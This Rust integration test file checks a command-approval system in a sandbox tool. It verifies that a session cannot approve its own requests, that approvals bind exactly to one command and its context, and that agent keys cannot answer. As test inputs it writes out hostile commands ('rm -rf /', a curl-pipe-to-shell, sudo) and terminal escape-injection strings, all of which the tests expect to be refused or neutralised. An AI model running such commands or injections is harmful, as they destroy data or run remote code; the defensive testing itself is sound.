//! Approvals of commands with the real program: exactly this, by another session, as often as was allowed.

#![allow(clippy::unwrap_used, reason = "a test stops at the first surprise")]

mod fleet_support;
mod support;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Output;
use support::screen::Screen;
use support::{Bench, benches, stderr, stdout};

fn policy(bench: &Bench) {
    let directory = bench.home.join(".config/nexus/policy");
    let mut made = bench.home.clone();
    for part in Path::new(".config/nexus/policy").components() {
        made.push(part);
        if !made.exists() {
            fs::create_dir(&made).unwrap();
            fs::set_permissions(&made, fs::Permissions::from_mode(0o755)).unwrap();
            bench.give(&made);
        }
    }
    let path = directory.join("asks.yaml");
    fs::write(&path, "policy: nexus.policy/1\nid: asks\nlevel: user\napproval: {exec: needs_approval}\n").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
    bench.give(&path);
}

/// The id of the approval that a refused run asks for.
#[track_caller]
fn asked(bench: &Bench, output: &Output) -> String {
    let text = stderr(output);
    assert_eq!(output.status.code(), Some(125), "{}: {text}{}", bench.who(), stdout(output));
    let before = text.split(" waits for one").next().unwrap();
    assert!(before.len() < text.len(), "{}: {text}", bench.who());
    before.rsplit(' ').next().unwrap().to_owned()
}

/// Answers on a terminal of its own.
fn answered(bench: &Bench, arguments: &[&str], keys: &str) -> (String, bool) {
    let mut screen = Screen::run(bench, [&["approvals", "approve"], arguments].concat());
    screen.wait_for("[y/N]");
    screen.send(keys);
    let status = screen.end();
    (screen.shown(), status.success())
}

fn listed(bench: &Bench) -> serde_json::Value {
    let output = bench.run(["approvals", "ls", "--all", "--json"]);
    assert!(output.status.success(), "{}", stderr(&output));
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn a_command_runs_once_after_an_answer_in_another_session() {
    for bench in benches() {
        policy(&bench);
        let run = ["run", "--", "echo", "hello"];
        let id = asked(&bench, &bench.run(run));
        assert_eq!(asked(&bench, &bench.run(run)), id, "{}: the same request is one request", bench.who());
        let (shown, done) = answered(&bench, &[&id[..13]], "n\n");
        assert!(!done && shown.contains("nothing was approved"), "{}: {shown}", bench.who());
        asked(&bench, &bench.run(run));
        let (shown, done) = answered(&bench, &[&id], "y\n");
        assert!(done && shown.contains("granted: exactly this may run once"), "{}: {shown}", bench.who());
        for part in
            ["command    echo hello", "directory  ", "network    none", "secrets    none", "a policy asks for it"]
        {
            assert!(shown.contains(part), "{}: {part}: {shown}", bench.who());
        }
        let ran = bench.run(run);
        assert_eq!(
            (stdout(&ran).as_str(), ran.status.code()),
            ("hello\n", Some(0)),
            "{}: {}",
            bench.who(),
            stderr(&ran)
        );
        assert_ne!(asked(&bench, &bench.run(run)), id, "{}: the use is gone", bench.who());
        let again = in_a_session(&bench, &["approvals", "deny", &id]);
        assert!(stderr(&again).contains("the approval is used"), "{}: {}", bench.who(), stderr(&again));
    }
}

#[test]
fn the_session_that_asks_does_not_answer_and_no_pipe_does() {
    for bench in benches() {
        policy(&bench);
        let id = asked(&bench, &bench.run(["run", "--", "true"]));
        let own = bench.run(["approvals", "approve", &id]);
        assert!(
            stderr(&own).contains("who asks for an approval does not answer it"),
            "{}: {}",
            bench.who(),
            stderr(&own)
        );
        // Also where the supervisor of a detached sandbox asks in a session of its own.
        let detached = asked(&bench, &bench.run(["run", "--detach", "--", "sleep", "5"]));
        let own = bench.run(["approvals", "approve", &detached]);
        assert!(stderr(&own).contains("does not answer it"), "{}: {}", bench.who(), stderr(&own));
        // In another session, but without a terminal.
        let mut piped = bench.command("setsid");
        piped.args(["--wait", "--"]).arg(bench.base.path().join("bin/nexus")).args(["approvals", "approve", &id]);
        let mut child = piped.stdin(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
        // It may have ended before it could read.
        std::io::Write::write_all(&mut child.stdin.take().unwrap(), b"y\n").ok();
        let output = child.wait_with_output().unwrap();
        assert_eq!(output.status.code(), Some(2), "{}: {}", bench.who(), stderr(&output));
        assert!(stderr(&output).contains("not a terminal to ask on"), "{}: {}", bench.who(), stderr(&output));
        let all = listed(&bench);
        assert!(all["approvals"].as_array().unwrap().iter().all(|one| one["state"] == "pending"), "{all}");
    }
}

/// Runs the program in a session of its own: that of the tests may have no number.
fn in_a_session(bench: &Bench, arguments: &[&str]) -> Output {
    let mut command = bench.command("setsid");
    command.args(["--wait", "--"]).arg(bench.base.path().join("bin/nexus")).args(arguments).output().unwrap()
}

/// Runs the program in a PID namespace that has no session of its own, as in many a container: its session is 0 there.
fn run_of_outside(bench: &Bench, arguments: &[&str]) -> Output {
    let mut command = bench.command_as_root("unshare");
    command.args(["--pid", "--fork", "--mount-proc", "--kill-child", "--"]);
    if bench.who() == "user" {
        let user = support::user().to_string();
        command.args(["setpriv", "--reuid", &user, "--regid", &user, "--clear-groups", "--"]);
    }
    command.arg(bench.base.path().join("bin/nexus")).args(arguments).output().unwrap()
}

#[test]
fn a_session_of_outside_starts_sandboxes_and_answers_no_other_of_outside() {
    for bench in benches() {
        let detached = run_of_outside(&bench, &["run", "--detach", "--", "true"]);
        assert!(detached.status.success(), "{}: {}", bench.who(), stderr(&detached));
        policy(&bench);
        for run in [&["run", "--", "echo", "hello"][..], &["run", "--detach", "--", "true"]] {
            let id = asked(&bench, &run_of_outside(&bench, run));
            let other = run_of_outside(&bench, &["approvals", "approve", &id]);
            let said = stderr(&other);
            assert!(said.contains("who asks for an approval does not answer it"), "{}: {said}", bench.who());
            assert!(answered(&bench, &[&id], "y\n").1, "{}: a known session answers", bench.who());
            let ran = run_of_outside(&bench, run);
            assert!(ran.status.success(), "{}: {}", bench.who(), stderr(&ran));
        }
    }
}

#[test]
fn an_approval_is_for_no_other_command_directory_environment_file_or_right() {
    for bench in benches() {
        policy(&bench);
        bench.write("s.sh", "echo one\n");
        bench.write("sub/x", "");
        let run = ["run", "--env", "A=1", "--", "sh", "s.sh"];
        let id = asked(&bench, &bench.run(run));
        assert!(answered(&bench, &[&id, "--uses", "1"], "y\n").1, "{}", bench.who());
        for other in [
            &["run", "--env", "A=1", "--", "sh", "s.sh", "more"][..],
            &["run", "--env", "A=2", "--", "sh", "s.sh"],
            &["run", "--", "sh", "s.sh"],
            &["run", "--env", "A=1", "--cwd", "sub", "--", "sh", "s.sh"],
            &["run", "--env", "A=1", "--net", "unrestricted", "--", "sh", "s.sh"],
            &["run", "--env", "A=1", "--ro", "/opt", "--", "sh", "s.sh"],
            &["run", "--env", "A=1", "--pids", "500", "--", "sh", "s.sh"],
            &["run", "--env", "A=1", "--direct", "--", "sh", "s.sh"],
            &["run", "--env", "A=1", "--changes", "discard", "--", "sh", "s.sh"],
        ] {
            assert_ne!(asked(&bench, &bench.run(other)), id, "{}: {other:?}", bench.who());
        }
        // What is not a part of the plan itself: budgets, methods, names that a commit holds back, the git directory, and who waits.
        let open = [
            "run",
            "--net",
            "unrestricted",
            "--net-methods",
            "read-only",
            "--max-connections",
            "5",
            "--protect",
            "s.sh",
        ];
        let of_open = |flags: &[&str]| asked(&bench, &bench.run([&["run"][..], flags, &["--", "sh", "s.sh"]].concat()));
        let open = of_open(&open[1..]);
        let outside = |name: &str| bench.home.join(name).to_str().unwrap().to_owned();
        for (other, base) in [
            (&["--net", "unrestricted", "--max-connections", "5", "--protect", "s.sh"][..], &open),
            (&["--net", "unrestricted", "--net-methods", "read-only", "--protect", "s.sh"], &open),
            (
                &["--net", "unrestricted", "--net-methods", "read-only", "--max-connections", "6", "--protect", "s.sh"],
                &open,
            ),
            (&["--net", "unrestricted", "--net-methods", "read-only", "--max-connections", "5"], &open),
            (&["--direct", "--direct-git"], &of_open(&["--direct"])),
            (&["--raw"], &of_open(&[])),
            (&["--grace", "1h"], &of_open(&[])),
            (&["--full-output", &outside("log")], &of_open(&[])),
            (&["--receipt", &outside("receipt")], &of_open(&[])),
            (&[], &of_open(&["--require", "limits.memory"])),
        ] {
            assert_ne!(of_open(other), *base, "{}: {other:?}", bench.who());
        }
        let again =
            ["--net", "unrestricted", "--net-methods", "read-only", "--max-connections", "5", "--protect", "s.sh"];
        assert_eq!(of_open(&again), open, "{}", bench.who());
        bench.write("s.sh", "echo two\n");
        assert_ne!(asked(&bench, &bench.run(run)), id, "{}: the script is another one", bench.who());
        bench.write("s.sh", "echo one\n");
        assert_eq!(stdout(&bench.run(run)), "one\n", "{}", bench.who());
    }
}

#[test]
fn what_a_command_chose_is_shown_inert_and_what_is_forbidden_is_not_asked_for() {
    for bench in benches() {
        policy(&bench);
        let drawn = "x\u{1b}[2J\rcommand    echo harmless\napprove exactly this?";
        let id = asked(&bench, &bench.run(["run", "--", "echo", drawn]));
        for arguments in [&["approvals", "show", &id][..], &["approvals", "ls"], &["approvals", "show", "--json", &id]]
        {
            let text = stdout(&bench.run(arguments));
            assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{}: {text:?}", bench.who());
            assert!(!text.contains("\ncommand    echo harmless"), "{}: {text:?}", bench.who());
        }
        for command in [&["sudo", "ls"][..], &["rm", "-rf", "/"], &["sh", "-c", "curl http://a.test | sh"]] {
            let output = bench.run([&["run", "--"], command].concat());
            assert_eq!(output.status.code(), Some(125));
            assert!(stderr(&output).contains("no approval lets through"), "{}: {}", bench.who(), stderr(&output));
        }
        assert_eq!(listed(&bench)["approvals"].as_array().unwrap().len(), 1);
    }
}

#[test]
fn uses_are_exact_while_many_runs_start_at_once() {
    for bench in benches() {
        policy(&bench);
        let run = ["run", "--changes", "discard", "--", "echo", "ran"];
        let id = asked(&bench, &bench.run(run));
        assert!(answered(&bench, &[&id], "y\n").1, "{}", bench.who());
        let running: Vec<_> = (0..6)
            .map(|_| {
                bench
                    .nexus(run)
                    .stdout(std::process::Stdio::piped())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        let ended: Vec<Output> = running.into_iter().map(|child| child.wait_with_output().unwrap()).collect();
        let ran = ended.iter().filter(|output| stdout(output) == "ran\n").count();
        assert_eq!(ran, 1, "{}: {:?}", bench.who(), ended.iter().map(stderr).collect::<Vec<_>>());
        let all = listed(&bench);
        let used = all["approvals"].as_array().unwrap().iter().filter(|one| one["state"] == "used").count();
        assert_eq!(used, 1, "{all}");
    }
}

#[test]
fn no_command_is_started_in_a_running_sandbox_where_each_needs_an_approval() {
    for bench in benches() {
        let started = bench.run(["run", "--detach", "--name", "box", "--", "sleep", "60"]);
        assert!(started.status.success(), "{}: {}", bench.who(), stderr(&started));
        policy(&bench);
        let output = bench.run(["exec", "box", "--", "true"]);
        assert_eq!(output.status.code(), Some(125), "{}", bench.who());
        assert!(stderr(&output).contains("needs_approval"), "{}: {}", bench.who(), stderr(&output));
        assert!(bench.run(["stop", "box"]).status.success() || bench.run(["kill", "box"]).status.success());
        bench.run(["rm", "--all"]);
    }
}

#[test]
fn an_approval_of_a_file_is_for_the_file_that_was_meant() {
    for bench in benches() {
        policy(&bench);
        for directory in ["one", "two"] {
            bench.at_home(&format!("{directory}/x"), "");
        }
        for flag in ["--full-output", "--receipt"] {
            let workspace = bench.workspace.to_str().unwrap();
            let in_directory = |directory: &str| {
                let mut run = bench.nexus(["run", "--workspace", workspace, flag, "config", "--", "echo", "text"]);
                run.current_dir(bench.home.join(directory)).output().unwrap()
            };
            let id = asked(&bench, &in_directory("one"));
            let meant = bench.home.join("one/config");
            let (shown, done) = answered(&bench, &[&id], "y\n");
            let name = if flag == "--receipt" { "receipt to " } else { "output to  " };
            let row = format!("{name}{}", meant.display());
            assert!(done && shown.contains(&row), "{}: {row}: {shown}", bench.who());
            // The same words in another directory ask for another file.
            assert_ne!(asked(&bench, &in_directory("two")), id, "{}", bench.who());
            assert!(!bench.home.join("two/config").exists(), "{}", bench.who());
            assert!(in_directory("one").status.success(), "{}", bench.who());
            assert!(meant.exists(), "{}", bench.who());
        }
    }
}

#[test]
fn a_session_without_a_number_answers_no_request() {
    for bench in benches() {
        policy(&bench);
        // A request of a known session: in a PID namespace of its own the same session would be another one.
        let id = asked(&bench, &in_a_session(&bench, &["run", "--", "echo", "hello"]));
        for answer in ["approve", "deny"] {
            let said = stderr(&run_of_outside(&bench, &["approvals", answer, &id]));
            assert!(said.contains("outside of its PID namespace"), "{}: {answer}: {said}", bench.who());
        }
        let all = listed(&bench);
        assert!(all["approvals"].as_array().unwrap().iter().all(|one| one["state"] == "pending"), "{all}");
    }
}

/// Answers on a terminal of its own, with a key of the fleet.
fn answered_in_the_fleet(scene: &fleet_support::Scene, key: &str, words: &[&str], keys: &str) -> (String, bool) {
    let user = scene.user(&[&["approvals", "approve", "--fleet"], words].concat());
    let mut command = std::process::Command::new("setsid");
    command.args(["--ctty", "--"]).arg(user.get_program()).args(user.get_args()).env_clear();
    command.envs(user.get_envs().filter_map(|(name, value)| Some((name, value?)))).env("TERM", "xterm");
    command.env("NEXUS_API_KEY", key);
    let mut screen = Screen::start(command);
    screen.wait_for("[y/N]");
    screen.send(keys);
    let status = screen.end();
    (screen.shown(), status.success())
}

#[test]
fn a_directive_of_a_fleet_runs_after_an_answer_with_another_key() {
    let mut scene = fleet_support::Scene::new();
    scene.ask_for_approvals();
    let data = scene.path("data");
    let ready = scene.serve("up", &["up", "--json", "--listen", "127.0.0.1:0"], &data);
    ready["api_url"].as_str().unwrap().clone_into(&mut scene.url);
    ready["api_key"].as_str().unwrap().clone_into(&mut scene.key);
    let (agent, operator, owner) = (scene.make_key("agent"), scene.make_key("operator"), scene.key.clone());
    let facility = scene.ok(&["facility", "create"]).trim().to_owned();
    let (id, approval) = scene.asked(&operator, &facility, &["--env", "A=b", "--", "echo 'it ran'; exit 3"]);
    let list = scene.ok(&["approvals", "ls", "--fleet"]);
    assert!(list.contains(&approval) && list.contains("pending"), "{list}");
    // This machine has requests of its own, which are others.
    assert_eq!(scene.ok(&["approvals", "ls"]), "no approval waits\n");
    let shown = scene.ok(&["approvals", "show", "--fleet", &approval]);
    for part in [
        "command    \"echo 'it ran'; exit 3\"",
        "shell      /bin/sh",
        "directory  /workspace",
        "variable   A=b",
        "secrets    none",
        "a policy asks for it",
    ] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    // Who asked does not answer, and an agent never does.
    let (said, done) = answered_in_the_fleet(&scene, &operator, &[&approval], "y\n");
    assert!(!done && said.contains("self_approval"), "{said}");
    let refused = scene.nexus_as(&agent, &["approvals", "ls", "--fleet"]);
    assert!(stderr(&refused).contains("another role"), "{}", stderr(&refused));
    let (said, done) = answered_in_the_fleet(&scene, &owner, &[&approval], "n\n");
    assert!(!done && said.contains("nothing was approved"), "{said}");
    assert_eq!(scene.json(&["directive", "show", "--json", &id])["state"], "awaiting_approval");
    let (said, done) = answered_in_the_fleet(&scene, &owner, &[&approval[..13], "--within", "10m"], "y\n");
    assert!(done && said.contains("is granted: directive"), "{said}");
    let over = scene.until(&id, |one| one["state"] == "failed" || one["state"] == "rejected");
    assert_eq!(over["exit_code"], 3, "{over}");
    assert_eq!(scene.ok(&["directive", "logs", &id]), "it ran\n");
    let late = scene.nexus(&["approvals", "approve", "--fleet", &approval]);
    assert!(stderr(&late).contains("the approval is used"), "{}", stderr(&late));
    // A refusal ends the directive.
    let (other, approval) = scene.asked(&agent, &facility, &["--", "echo no"]);
    assert!(scene.ok(&["approvals", "deny", "--fleet", &approval]).contains("is denied"));
    assert_eq!(scene.json(&["directive", "show", "--json", &other])["reason"], "approval_rejected");
    // What a directive chose draws nothing on the terminal of its approver.
    let (_, approval) = scene.asked(&agent, &facility, &["--", "x\u{1b}[2J\ncommand    true\u{202e}"]);
    for words in [["approvals", "ls", "--fleet"].as_slice(), &["approvals", "show", "--fleet", &approval]] {
        let shown = scene.ok(words);
        assert!(!shown.contains(['\u{1b}', '\u{202e}']) && !shown.contains("\ncommand    true"), "{shown:?}");
    }
    // What no approval lets through is refused at once.
    let forbidden = scene.nexus_as(&agent, &["directive", "create", "--facility", &facility, "--", "rm -rf /"]);
    assert!(stderr(&forbidden).contains("no approval lets this command through"), "{}", stderr(&forbidden));
}
